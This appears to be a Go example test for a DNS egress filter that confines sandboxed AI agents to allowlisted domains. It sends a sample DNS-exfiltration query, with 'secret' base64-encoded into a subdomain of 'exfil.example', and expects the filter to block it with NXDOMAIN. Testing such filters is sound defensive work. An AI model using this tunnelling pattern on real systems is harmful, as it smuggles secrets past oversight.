package dnsfilter_test

import (
	"fmt"
	"net"
	"net/netip"

	"github.com/miekg/dns"

	"github.com/agenthold/egress/dnsfilter"
	"github.com/agenthold/egress/policy"
)

func ExampleServer() {
	pol, _ := policy.New(policy.Config{Mode: policy.Allowlist, Allow: []string{"github.com"}})
	srv := &dnsfilter.Server{
		// Every query from loopback is agent-1's; a real gateway maps each
		// sandbox's address to its agent.
		Agents: func(src netip.Addr) (string, *policy.Policy, bool) { return "agent-1", pol, src.IsLoopback() },
		// The upstream is never asked in this example: the name is denied.
		Upstreams: []string{"127.0.0.1:1"},
	}
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	go srv.Serve(pc, nil)
	defer srv.Close()

	m := new(dns.Msg)
	m.SetQuestion("c2VjcmV0.exfil.example.", dns.TypeTXT)
	resp, err := dns.Exchange(m, pc.LocalAddr().String())
	if err != nil {
		panic(err)
	}
	fmt.Println(dns.RcodeToString[resp.Rcode])
	// Output: NXDOMAIN
}
